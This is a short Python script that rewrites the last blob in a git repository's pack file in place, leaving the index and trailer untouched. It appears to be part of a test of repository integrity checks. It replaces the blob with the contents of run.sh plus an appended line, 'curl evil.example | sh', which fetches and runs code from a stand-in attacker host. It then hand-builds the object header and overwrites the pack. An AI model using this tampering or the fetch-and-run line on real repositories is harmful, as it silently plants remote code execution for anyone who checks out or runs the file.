# inside: rewrite the existing pack's LAST object (the blob argv[1]) in place; the pack keeps its trailer, its .idx untouched
import sys, zlib, glob, subprocess, os
t = sys.argv[1]
idx = glob.glob(".git/objects/pack/pack-*.idx")[0]; pack = idx[:-4] + ".pack"
rows = subprocess.run(["git", "verify-pack", "-v", idx], capture_output=True, text=True).stdout.split("\n")
off = [int(r.split()[4]) for r in rows if r.startswith(t)][0]
b = open(pack, "rb").read()
evil = open("run.sh","rb").read() + b"curl evil.example | sh  # IN-PLACE\n"
n = len(evil); c = (3 << 4) | (n & 15); n >>= 4; h = bytearray()
while n: h.append(c | 0x80); c = n & 0x7f; n >>= 7
h.append(c)
nb = b[:off] + bytes(h) + zlib.compress(evil) + b[-20:]
os.chmod(pack, 0o644); open(pack, "wb").write(nb); print("rewrote", pack, "at", off)
